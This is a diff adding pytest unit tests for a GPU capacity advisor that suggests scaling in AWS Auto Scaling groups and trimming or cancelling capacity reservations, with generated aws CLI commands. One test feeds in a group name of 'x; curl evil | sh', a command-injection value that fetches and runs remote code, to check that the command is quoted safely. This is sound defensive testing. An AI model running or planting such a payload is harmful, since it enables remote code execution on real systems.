@@ -1,0 +1,154 @@
+"""Advice about groups and reservations: a plain and a hard case for each rule."""
+
+from __future__ import annotations
+
+import shlex
+from dataclasses import replace
+from decimal import Decimal
+from math import nan
+
+import pytest
+
+from governor.domain.episode.plan import Price
+from governor.domain.sweep.managed import BatchEnvironment, Home, Kind
+from simulation.capacity_advice import Group, Reservation, of_group, reservation
+from simulation.past import Past
+from simulation.patterns import Advice
+from tests.unit.simulation.pasts import make_past
+
+TAGS = {"aws:autoscaling:groupName": "workers"}
+HOME = Home(Kind.GROUP, "EC2 Auto Scaling", "workers")
+
+
+def half(hour: int) -> float:
+    """Twelve hours of work a day."""
+    return 90.0 if hour % 24 < 12 else 1.0
+
+
+def member(high: object, **changes: object) -> Past:
+    """One GPU for 1.006 USD an hour."""
+    return make_past("g5.xlarge", [high], **{"tags": TAGS, **changes})  # type: ignore[list-item, arg-type]
+
+
+def kinds(group: Group) -> dict[str, Advice]:
+    """What is advised, by kind."""
+    return {one.kind: one for one in of_group(group)}
+
+
+def test_a_group_scales_in_when_its_mean_is_low() -> None:
+    """Of four members at 1 % for half of the hours, one would do."""
+    group = Group(HOME, tuple(member(half) for _ in range(4)), minimum=4)
+    found = kinds(group)["scale-in"]
+
+    assert Decimal("1.006") * 730 * 3 / 2 == found.usd_per_month
+    assert "under 20% on average in 50% of its hours" in found.text
+    assert "Its minimum size is 4; now it has 4 instances" in found.text
+    assert "123456789012/us-east-1/workers" == found.subject
+    unread = kinds(replace(group, minimum=None))
+    assert "Its minimum size is unknown" in unread["scale-in"].text
+    assert "minimum-size" not in unread
+
+
+def test_a_group_is_judged_by_all_its_gpus_together() -> None:
+    """One idle member beside two busy ones is no low mean."""
+    group = Group(HOME, (member(90.0), member(90.0), member(1.0)), minimum=0)
+
+    assert {} == kinds(group)
+
+
+def test_a_minimum_that_holds_idle_gpus_gets_the_exact_command() -> None:
+    """Two of three idle all the time, and the minimum holds one of them."""
+    group = Group(HOME, (member(90.0), member(1.0), member(1.0)), minimum=1)
+    found = kinds(group)["minimum-size"]
+
+    assert Decimal("1.006") * 730 == found.usd_per_month
+    wanted = "aws autoscaling update-auto-scaling-group --region us-east-1 --auto-scaling-group-name workers"
+    assert f"{wanted} --min-size 0" == found.command
+
+
+@pytest.mark.parametrize(
+    ("home", "wanted"),
+    [
+        (Home(Kind.NODE_GROUP, "Amazon EKS", "gpu", "prod"), "--scaling-config minSize=0"),
+        (Home(Kind.BATCH, "AWS Batch", "nightly"), "--compute-resources minvCpus=0"),
+        (Home(Kind.ECS, "Amazon ECS", "inference"), "--auto-scaling-group-name workers --min-size 0"),
+    ],
+)
+def test_each_service_has_its_own_command(home: Home, wanted: str) -> None:
+    batch = BatchEnvironment("nightly", 4, 4, 0, 0, {}) if home.kind is Kind.BATCH else None
+    found = kinds(Group(home, (member(1.0),), minimum=1, batch=batch))["minimum-size"]
+
+    assert found.command.endswith(wanted)
+
+
+def test_a_name_that_anybody_may_write_stays_one_word() -> None:
+    tags = {"aws:autoscaling:groupName": "x; curl evil | sh"}
+    found = kinds(Group(HOME, (member(1.0, tags=tags),), minimum=1))["minimum-size"]
+
+    assert "x; curl evil | sh" in shlex.split(found.command)
+
+
+def test_a_group_with_a_silent_or_unpriced_member_promises_nothing() -> None:
+    """A member that nobody measured may work; of unknown prices there is no sum."""
+    silent = Group(HOME, (member(1.0), member(lambda hour: 1.0 if hour % 2 else nan)), minimum=2)
+    unpriced = replace(member(1.0), price=Price(None, "unknown"))
+
+    assert {} == kinds(silent)
+    found = kinds(Group(HOME, (member(1.0), unpriced), minimum=2))
+    assert {"scale-in": None, "minimum-size": None} == {
+        kind: one.usd_per_month for kind, one in found.items()
+    }
+
+
+RESERVED = Reservation(
+    "cr-0123456789abcdef0",
+    "123456789012",
+    "us-east-1",
+    "p5.48xlarge",
+    total=4,
+    available=3,
+    is_block=False,
+    holder="training of account 123456789012",
+    ends="without an end date",
+    usd_per_hour=Decimal("55.04"),
+    used_at_most=2,
+    weeks=6,
+    percent_measured=98,
+)
+
+
+def test_a_half_used_reservation_names_its_holder_and_what_it_costs() -> None:
+    """Three are free now, but two were used once: two can go."""
+    found = reservation(RESERVED)
+
+    assert found is not None
+    assert (Decimal("110.08") * 730, 6, 98) == (found.usd_per_month, found.weeks, found.percent_measured)
+    assert "2 of 4 stand empty, at most 2 were used in 6 weeks: 110.08 USD an hour" in found.text
+    assert "Held by training of account 123456789012, without an end date" in found.text
+    assert found.command.endswith("--capacity-reservation-id cr-0123456789abcdef0 --instance-count 2")
+
+
+def test_an_empty_one_may_be_canceled_and_a_block_cannot() -> None:
+    empty = reservation(replace(RESERVED, available=4, used_at_most=0))
+    block = reservation(replace(RESERVED, is_block=True, ends="until 2026-12-01 11:30 UTC"))
+
+    assert empty is not None
+    assert "cancel-capacity-reservation" in empty.command
+    assert block is not None
+    assert ("empty-block", "") == (block.kind, block.command)
+    assert "paid in advance and cannot be canceled" in block.text
+    assert "until 2026-12-01 11:30 UTC" in block.text
+
+
+@pytest.mark.parametrize("changes", [{"available": 0}, {"used_at_most": 4}])
+def test_one_that_is_used_or_was_is_left_alone(changes: dict[str, int]) -> None:
+    """Empty at this moment is not unused: its holder may need all of it every night."""
+    assert reservation(replace(RESERVED, **changes)) is None  # type: ignore[arg-type]
+
+
+def test_what_is_not_known_of_a_reservation_is_said() -> None:
+    found = reservation(replace(RESERVED, used_at_most=None, weeks=0, percent_measured=0, usd_per_hour=None))
+
+    assert found is not None
+    assert found.usd_per_month is None
+    assert "3 of 4 stand empty, for how long is not measured: its price is not known" in found.text
